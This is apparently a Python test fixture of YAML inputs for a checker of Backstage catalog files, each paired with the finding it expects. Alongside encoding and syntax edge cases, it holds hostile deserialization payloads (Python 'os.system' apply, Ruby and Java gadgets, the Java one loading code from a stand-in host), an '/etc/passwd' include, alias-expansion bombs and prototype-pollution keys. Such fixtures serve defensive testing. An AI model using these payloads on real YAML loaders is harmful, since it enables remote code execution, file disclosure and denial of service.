"""Files that are YAML, nearly YAML, or YAML that costs more than it should.

`FILES` has for each the finding that must be there, or `None` where the file is fine as it is, or any.
"""

from __future__ import annotations

ANY = "*"
"""Some finding, whichever: several are right."""

_HONEST = b"apiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata: {name: NAME}\nspec: {type: service, lifecycle: production, owner: nobody}\n"


def _with(text: str | bytes) -> bytes:
    """A document before the honest one."""
    return (text.encode() if isinstance(text, str) else text) + b"\n---\n" + _HONEST


def _bomb(levels: int, width: int) -> str:
    lines = ["a0: &a0 [" + ",".join(["x"] * width) + "]"]
    lines += [f"a{n}: &a{n} [" + ",".join([f"*a{n - 1}"] * width) + "]" for n in range(1, levels)]
    return "\n".join(lines)


FILES: dict[str, tuple[bytes, str | None]] = {
    "honest": (_HONEST, None),
    "byte-order-mark": (b"\xef\xbb\xbf" + _HONEST, None),
    "carriage-returns": (_HONEST.replace(b"\n", b"\r\n"), None),
    "old-line-ends": (_HONEST.replace(b"\n", b"\r"), None),
    "directive": (b"%YAML 1.2\n---\n" + _HONEST, None),
    "documents": (b"---\n---\n" + _HONEST + b"...\n---\n", None),
    "json": (b'{"apiVersion":"backstage.io/v1alpha1","kind":"Component","metadata":{"name":"NAME"},"spec":{"type":"a","lifecycle":"b","owner":"nobody"}}', None),
    "utf-16": (_HONEST.decode().encode("utf-16"), ANY),
    "utf-16-without-mark": (_HONEST.decode().encode("utf-16-le"), ANY),
    "utf-32": (_HONEST.decode().encode("utf-32"), ANY),
    "latin": (_with("x: ".encode() + b"\xe4\xf6\xfc"), "yaml-encoding"),
    "overlong": (_with(b"x: \xc0\xaf"), "yaml-encoding"),
    "surrogates": (_with(b"x: \xed\xa0\x80"), "yaml-encoding"),
    "cut-character": (_HONEST + b"# \xe2\x82", ANY),
    "nul": (_with(b"x: a\0b"), ANY),
    "control": (_with(b"x: a\x07b"), ANY),
    "escape-sequence": (_with(b"x: a\x1b[31mb"), ANY),
    "binary": (bytes(range(256)) * 8, ANY),
    "empty": (b"", ANY),
    "blank": (b"\n\n  \n# only a comment\n", ANY),
    "scalar": (b"just text", ANY),
    "list": (b"- a\n- b\n", ANY),
    "null": (b"~", ANY),
    "tab-indent": (b"a:\n\tb: c\n", "yaml-syntax"),
    "unclosed-flow": (b"a: [1, 2\nb: c\n", "yaml-syntax"),
    "unclosed-quote": (b"a: \"x\nb: c\n", "yaml-syntax"),
    "bad-indent": (b"a:\n   b: c\n  d: e\n", "yaml-syntax"),
    "two-values": (b"a: b: c\n", "yaml-syntax"),
    "unknown-escape": (b'a: "\\q"\n', "yaml-syntax"),
    "bad-anchor": (b"a: &\n  b\nc: *nothing\n", ANY),
    "unknown-alias": (b"a: *nothing\n", ANY),
    "bad-directive": (b"%YAML 9.9.9\n---\na: b\n", ANY),
    "tag-directive": (b"%TAG !! tag:evil.example,2000:\n---\na: !!str b\n", ANY),
    "reserved": (b"a: @b\n", "yaml-syntax"),
    "backtick": (b"a: `id`\n", "yaml-syntax"),
    "duplicate-keys": (b"kind: Component\nkind: API\n", "yaml-duplicate-key"),
    "duplicate-nested": (_HONEST.replace(b"{name: NAME}", b"{name: NAME, name: other}"), "yaml-duplicate-key"),
    "merge-keys": (b"x: &x {a: 1}\ny: {<<: *x, a: 2}\n", ANY),
    "python-object": (b"x: !!python/object/apply:os.system ['id']\n", "yaml-tag"),
    "python-name": (b"x: !!python/name:os.system\n", "yaml-tag"),
    "ruby-object": (b"x: !ruby/object:Gem::Installer {}\n", "yaml-tag"),
    "java-object": (b"x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://evil.example']]]]\n", "yaml-tag"),
    "binary-tag": (b"x: !!binary aGk=\n", ANY),
    "include-tag": (b"x: !include /etc/passwd\n", "yaml-tag"),
    "environment-tag": (b"x: !ENV HOME\n", "yaml-tag"),
    "cycle": (b"a: &a [*a]\n", "yaml-alias"),
    "cycle-in-mapping": (b"a: &a {b: {c: *a}}\n", "yaml-alias"),
    "bomb": (_with(_bomb(10, 10)), "limit-yaml-nodes"),
    "bomb-wide": (_with(_bomb(4, 200)), "limit-yaml-nodes"),
    "bomb-deep": (_with("\n".join(["a0: &a0 x"] + [f"a{n}: &a{n} [*a{n - 1}]" for n in range(1, 200)])), ANY),
    "bomb-keys": (_with("a: &a {b: c}\n" + "\n".join(f"k{n}: *a" for n in range(20_000))), "limit-yaml-aliases"),
    "deep-flow": (b"a: " + b"[" * 50_000, "limit-yaml-depth"),
    "deep-braces": (b"a: " + b"{x: " * 50_000, "limit-yaml-depth"),
    "deep-blocks": ("\n".join(" " * n + "a:" for n in range(500)).encode(), "limit-yaml-depth"),
    "deep-lists": (b"- " * 20_000 + b"x", "limit-yaml-depth"),
    "long-key": (b"k" * 5_000 + b": v\n", ANY),
    "long-plain-key": (b"? " + b"k" * 500_000 + b"\n: v\n", ANY),
    "long-scalar": (_with("x: " + "y" * 4_000_000), ANY),
    "long-literal": (_with("x: |\n" + "  line\n" * 500_000), ANY),
    "many-keys": (_with("\n".join(f"k{n}: {n}" for n in range(200_000))), ANY),
    "many-documents": (b"--- {}\n" * 60_000, "limit-yaml-documents"),
    "many-anchors": (_with("\n".join(f"k{n}: &a{n} x" for n in range(100_000))), ANY),
    "many-comments": (b"# comment\n" * 400_000 + _HONEST, None),
    "many-colons": (b"a: " + b": " * 100_000, ANY),
    "many-quotes": (b"a: " + b"'" * 300_001, ANY),
    "many-question-marks": (b"? " * 20_000, ANY),
    "many-exclamations": (b"a: " + b"!" * 100_000 + b" x", ANY),
    "many-percents": (b"%" * 100_000 + b"\n", ANY),
    "huge": (b"x: |\n" + b"  0123456789abcdef\n" * 1_000_000, "limit-yaml-size"),
    "numbers": (_with("a: 1e999999999\nb: 0x" + "f" * 10_000 + "\nc: .inf\nd: -.inf\ne: .nan\nf: 1_000\ng: 0o777\nh: 1:30:00"), ANY),
    "booleans": (_HONEST.replace(b"type: service", b"type: yes"), None),
    "dates": (_HONEST.replace(b"type: service", b"type: 2001-12-14t21:59:43.10-05:00"), None),
    "proto-keys": (_with("__proto__: {polluted: true}\nconstructor: {prototype: {x: 1}}"), ANY),
    "complex-keys": (_with("? [a, b]\n: c\n? {d: e}\n: f"), ANY),
    "null-keys": (_with("~: a\n: b"), ANY),
    "line-separators": (_with("x: a\u2028b\u2029c\u0085d"), ANY),
}

COUNT = len(FILES)


def repositories() -> dict[str, dict[str, bytes]]:
    """The files of a repository for each."""
    return {
        name: {"catalog-info.yaml": content.replace(b"NAME", f"yaml-{name}".encode())}
        for name, (content, _) in FILES.items()
    }
